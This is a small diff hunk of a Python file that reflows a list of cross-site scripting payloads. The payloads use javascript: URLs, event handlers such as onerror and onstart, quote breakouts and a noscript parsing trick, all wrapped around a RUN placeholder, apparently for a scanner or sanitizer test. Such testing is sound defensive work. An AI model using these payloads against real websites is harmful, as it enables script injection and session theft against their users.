@@ -31,7 +31,8 @@ PAYLOADS = [
     f"<link rel=stylesheet href=javascript:{RUN}>", f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
     f"<base href=javascript:{RUN}//>", f"<style>@import 'javascript:{RUN}';</style>", f"<x onclick={RUN}>click",
     f"<marquee onstart={RUN}>", f"<audio src onloadstart={RUN}>", f"javascript:{RUN}", f"`;{RUN};`", f"';{RUN};//",
-    f'";{RUN};//', f"<template><script>{RUN}</script></template>", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f'";{RUN};//', f"<template><script>{RUN}</script></template>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
 ]  # fmt: skip
 
 
